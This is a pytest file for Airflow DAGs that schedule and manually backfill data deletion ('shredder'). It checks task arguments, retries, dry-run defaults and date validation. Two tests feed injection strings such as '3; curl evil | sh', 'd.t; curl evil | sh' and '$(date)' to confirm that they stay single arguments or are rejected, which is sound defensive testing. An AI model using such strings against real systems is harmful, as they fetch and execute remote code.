"""What is deleted by which task, for which requests, every four weeks; and the same by hand."""

from __future__ import annotations

from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pendulum
import pytest
from airflow.sdk import RetryAction
from airflow.sdk.exceptions import AirflowFailException, ParamValidationError
from airflow.serialization.serialized_objects import DagSerialization
from airflow.timetables.base import TimeRestriction

from operators.gcp_container_operator import PodFailedError
from tests.dags.forms import filled_in
from tests.dags.rendering import Run, rendered
from utils.retries import FaultRetryPolicy

if TYPE_CHECKING:
    from airflow.sdk import DAG

GIVEN = {
    "request_start_date": "2026-06-01",
    "request_end_date": "2026-06-30",
    "target_tables": ["telemetry_stable.main_v5", "orchard_derived.days_v1"],
}
TASKS = (
    "telemetry_main",
    "telemetry_main_use_counter",
    "all",
    "experiments",
    "with-sampling",
    "desktop-metrics",
    "force-no-dml",
)


def command(dags: dict[str, DAG], task_id: str, **variables: Any) -> list[str]:
    """The arguments of a task in the run of 2026-06-02, whose interval ends on the 30th."""
    run = Run("2026-06-02T00:00:00Z", end="2026-06-30T00:00:00Z")
    var = SimpleNamespace(value=SimpleNamespace(get=lambda name, default: variables.get(name, default)))
    words: list[str] = rendered(dags["shredder"], task_id, "arguments", run, var=var)
    return words


def tables(words: list[str], flag: str) -> list[str]:
    """What follows a flag, up to the next."""
    joined = [word.removeprefix(f"{flag}=") for word in words if word.startswith(f"{flag}=")]
    after = words[words.index(flag) + 1 :] if flag in words else []
    end = next((number for number, word in enumerate(after) if word.startswith("--")), len(after))
    return [*joined, *after[:end]]


def test_every_four_weeks_the_requests_of_nine(dags: dict[str, DAG]) -> None:
    timetable = DagSerialization.from_dict(DagSerialization.to_dict(dags["shredder"])).timetable
    window = TimeRestriction(earliest=dags["shredder"].start_date, latest=None, catchup=True)
    info = timetable.next_dagrun_info(last_automated_data_interval=None, restriction=window)
    assert info is not None
    assert info.data_interval == (pendulum.datetime(2023, 5, 16), pendulum.datetime(2023, 6, 13))
    for task_id in TASKS:
        words = command(dags, task_id)
        assert {"--end-date=2026-06-29", "--start-date=2026-04-27", "--no-use-dml"} <= set(words)


def test_each_table_is_shredded_by_one_task(dags: dict[str, DAG]) -> None:
    assert set(dags["shredder"].task_ids) == set(TASKS)
    by_task = {task_id: tables(command(dags, task_id), "--only") for task_id in TASKS}
    taken = [table for only in by_task.values() for table in only]
    assert len(taken) == len(set(taken)) == 7
    assert set(tables(command(dags, "all"), "--except")) == set(taken), "all leaves out just what the others take"
    for task_id in ("with-sampling", "desktop-metrics"):
        assert tables(command(dags, task_id), "--sampling-tables") == by_task[task_id]


def test_how_much_at_once_is_read_when_it_runs(dags: dict[str, DAG]) -> None:
    assert "--parallelism=3" in command(dags, "all")
    assert "--parallelism=7" in command(dags, "all", shredder_all_parallelism="7")
    words = command(dags, "desktop-metrics", shredder_desktop_metrics_sampling_batch_size="9")
    assert {"--parallelism=2", "--sampling-parallelism=2", "--sampling-batch-size=9"} <= set(words)


def test_a_hostile_variable_stays_one_word(dags: dict[str, DAG]) -> None:
    words = command(dags, "all", shredder_all_parallelism="3; curl evil | sh")
    assert "--parallelism=3; curl evil | sh" in words
    task: Any = dags["shredder"].get_task("all")
    assert not task.cmds, "no shell reads it"


def test_no_pod_stays_to_delete_beside_the_next(dags: dict[str, DAG]) -> None:
    for dag_id in ("shredder", "shredder_backfill"):
        pods: list[Any] = [task for task in dags[dag_id].tasks if hasattr(task, "arguments")]
        assert pods
        assert {task.on_finish_action.value for task in pods} == {"delete_pod"}
        assert {(task.retries, task.retry_delay.total_seconds()) for task in pods} == {(44, 300)}
    assert all(task.depends_on_past for task in dags["shredder"].tasks)


@pytest.mark.parametrize("dag_id", ["shredder", "shredder_backfill"])
def test_an_error_in_one_query_ends_no_retries(dags: dict[str, DAG], dag_id: str) -> None:
    error = PodFailedError("google.api_core.exceptions.BadRequest: 400 reason: invalidQuery")
    assert FaultRetryPolicy().evaluate(error, 1, 44).action == RetryAction.FAIL, "what other tasks do"
    for task in dags[dag_id].tasks:
        assert task.retry_policy is not None
        assert task.retry_policy.evaluate(error, 1, 44).action == RetryAction.DEFAULT


def by_hand(dags: dict[str, DAG], **given: Any) -> dict[str, Any]:
    return filled_in(dags["shredder_backfill"], **(GIVEN | given))


@pytest.mark.parametrize(("dry_run", "task_id"), [(True, "shredder_backfill_dry_run"), (False, "shredder_backfill")])
def test_by_hand_a_list_of_tables_becomes_arguments(dags: dict[str, DAG], dry_run: bool, task_id: str) -> None:
    branch: Any = dags["shredder_backfill"].get_task("dry_run_branch")
    params = by_hand(dags, dry_run=dry_run)
    assert branch.python_callable(params=params) == task_id
    run = Run("2026-07-01T00:00:00Z", end="2026-07-01T00:00:00Z")
    cmds = rendered(dags["shredder_backfill"], task_id, "cmds", run, params=params)
    assert ("--dry-run" in cmds) is dry_run
    assert {"--start-date=2026-06-01", "--end-date=2026-06-30", "--parallelism=1"} <= set(cmds)
    assert cmds[-1] == "--only"
    assert rendered(dags["shredder_backfill"], task_id, "arguments", run, params=params) == GIVEN["target_tables"]


def test_by_hand_it_is_dry_unless_told_otherwise(dags: dict[str, DAG]) -> None:
    assert by_hand(dags) == GIVEN | {"dry_run": True}


def test_reversed_dates_are_refused_before_anything_starts(dags: dict[str, DAG]) -> None:
    branch: Any = dags["shredder_backfill"].get_task("dry_run_branch")
    with pytest.raises(
        AirflowFailException, match="request_start_date=2026-07-01 is after request_end_date=2026-06-30"
    ):
        branch.python_callable(params=by_hand(dags, request_start_date="2026-07-01", dry_run=False))


@pytest.mark.parametrize(
    "hostile",
    [
        {"target_tables": []},
        {"target_tables": None},
        {"target_tables": ["d.t; curl evil | sh"]},
        {"target_tables": ["d.t", "--no-dry-run"]},
        {"target_tables": "d.t"},
        {"request_start_date": "2026-06-31"},
        {"request_end_date": "$(date)"},
        {"dry_run": "yes"},
    ],
)
def test_a_hostile_value_starts_no_run(dags: dict[str, DAG], hostile: dict[str, Any]) -> None:
    with pytest.raises(ParamValidationError):
        by_hand(dags, **hostile)
